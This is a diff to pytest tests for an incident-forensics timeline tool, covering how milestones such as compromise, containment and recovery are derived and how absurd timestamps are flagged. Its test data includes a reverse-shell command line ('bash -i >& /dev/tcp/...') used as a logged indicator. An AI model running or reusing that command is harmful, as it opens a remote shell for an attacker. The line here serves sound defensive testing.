@@ -8,6 +8,7 @@ import pandas as pd
 import pytest
 
 from tests.timeline.conftest import open_case
+from workbench.conclusions import Coverage, derive_conclusions
 from workbench.records import Event, Finding, Severity
 from workbench.timeline.build import FRAME_COLUMNS, build_timeline, lane_of
 from workbench.timeparse import parse_timestamp
@@ -22,6 +23,14 @@ def _t(text: str) -> datetime:
 def _log_match(text_time: str, message: str, severity: str = "critical", ref: str | None = None) -> Event:
     """What the log scanner emits: the line's own time (any offset) converted to UTC by timeparse."""
     return Event(parse_timestamp(text_time), "logs/pipeline.log", "ci:log:match", message, severity, ref)
+
+
+def conclude(tl, findings=(), meta=None):
+    """The conclusions over the timeline's usable events, and their milestones anchored (as the run does)."""
+    cov = {"model": Coverage("model", "Model forensics", "analysed")}
+    c = derive_conclusions(findings, tl.usable, cov, meta=meta, generated_at=GENERATED, plausible=tl.plausible)
+    tl.anchor(c.milestones)
+    return c
 
 
 @pytest.fixture
@@ -77,21 +86,25 @@ def test_absurd_and_unparseable_times_are_kept_and_flagged(hostile):
     assert tl.total == len(events) == 20  # 8 actions, 3 alerts, 1 marker, 1 intake, 7 analyst
     assert tl.summary()["flagged"] == {"unparseable": 3, "before_1990": 1, "future": 1}
     # flagged isolate/rollback lines are not milestones: the plausible ones are
-    ms = tl.milestones.milestones
-    assert (ms["containment"].time, ms["recovery"].time) == (_t("2026-11-19T09:40:33Z"), _t("2026-11-19T11:20:47Z"))
+    ms = conclude(tl, meta=o.case.meta).milestones
+    assert ms["containment"].time == _t("2026-11-19T09:40:33Z")
+    # the plausible rollback line says it started, never that it finished: no recovery, and the rule says why
+    assert ms["recovery"].time is None
+    assert ms["recovery"].rule == "no completed rollback (a rollback at 2026-11-19T11:20:47Z has no completion line)"
     assert not any(e.milestones for e in tl.flagged)
 
 
 def test_absurd_finding_times_are_no_compromise_candidates(hostile):
     o, events = hostile
     findings = [
-        Finding.create(severity="high", category="log_pattern", title="old", timestamp=_t("1971-01-01T00:00:00Z")),
+        Finding.create(severity="critical", category="log_pattern", title="old", timestamp=_t("1971-01-01T00:00:00Z")),
         Finding.create(severity="high", category="log_pattern", title="future", timestamp=_t("2199-01-01T00:00:00Z")),
         Finding.create(severity="high", category="log_pattern", title="ok", timestamp=_t("2026-11-18T22:00:00Z")),
     ]
     tl = build_timeline(events, findings=findings, meta=o.case.meta, generated_at=GENERATED)
-    compromise = tl.milestones.milestones["compromise"]
-    assert (compromise.time, compromise.rule) == (_t("2026-11-18T22:00:00Z"), "earliest finding time (log_pattern)")
+    compromise = conclude(tl, findings, o.case.meta).milestones["compromise"]
+    assert compromise.time == _t("2026-11-18T22:00:00Z")
+    assert compromise.rule == "earliest malicious pipeline step (log_pattern, severity high)"
     # timed findings join the timeline as finding events; absurd ones are flagged there
     finding_rows = {e.event.message: e.flag for e in tl.entries if e.event.kind == "finding:log_pattern"}
     assert finding_rows == {"old": "before_1990", "future": "future", "ok": None}
@@ -144,6 +157,8 @@ def test_frame_columns_dtypes_and_tactics(hostile):
         Event(_t("2026-11-19T07:03:00Z"), "x", "weird:kind", "unknown kind"),
     ]
     tl = build_timeline(events + extra, findings=[finding], meta=o.case.meta, generated_at=GENERATED)
+    conclude(tl, [Finding.create(severity="critical", category="log_pattern", title="reverse shell",
+                                 timestamp=_t("2026-11-19T07:00:00Z"))], o.case.meta)  # fmt: skip
     df = tl.frame()
     assert list(df.columns) == FRAME_COLUMNS
     assert str(df["timestamp"].dtype) == "datetime64[us, UTC]" == str(df["last_timestamp"].dtype)
@@ -164,7 +179,7 @@ def test_frame_columns_dtypes_and_tactics(hostile):
     assert by_message.loc["unknown kind", ["lane", "tactic"]].tolist() == ["Other", "Other"]
     assert by_message.loc["Monitor alert BEHAVIOR_DRIFT: no severity at all", "tactic"] == "Impact"
     assert by_message.loc["Vendor called the hotline", ["lane", "tactic"]].tolist() == ["Analyst", "Response"]
-    assert by_message.loc["bash -i >& /dev/tcp/203.0.113.7/4444", "milestone"] == "first_indicator,compromise"
+    assert by_message.loc["bash -i >& /dev/tcp/203.0.113.7/4444", "milestone"] == "first_indicator"
     assert df.loc[df["flag"] != "", "flag"].tolist() == ["unparseable"] * 3 + ["before_1990", "future"]
 
 
@@ -190,8 +205,9 @@ def test_empty_timeline():
     tl = build_timeline([], generated_at=GENERATED)
     assert len(tl) == 0 and list(tl.frame().columns) == FRAME_COLUMNS
     assert tl.horizon == GENERATED
-    assert tl.milestones.milestones["report"].time == GENERATED
-    assert tl.milestones.intervals["dwell_time"].duration is None
+    c = conclude(tl)
+    assert c.milestones["report"].time == GENERATED and c.verdict == "clean"
+    assert c.intervals["dwell_time"].duration is None
     assert Severity.INFO.value in tl.frame()["severity"].cat.categories
 
 
@@ -208,4 +224,8 @@ def test_a_flood_with_some_absurd_times_keeps_its_usable_part(hostile):
         (120, "before_1990", _t("1970-01-01T00:00:01Z"), _t("1970-01-01T00:00:01Z")),
         (120, None, start, start + timedelta(seconds=119)),
     ]
-    assert tl.milestones["compromise"].time == start
+    assert start in [e.timestamp for e in tl.usable] and _t("1970-01-01T00:00:01Z") not in [
+        e.timestamp for e in tl.usable
+    ]
+    finding = Finding.create(severity="critical", category="log_pattern", title="same line", timestamp=start)
+    assert conclude(tl, [finding], o.case.meta).milestones["first_indicator"].time == start
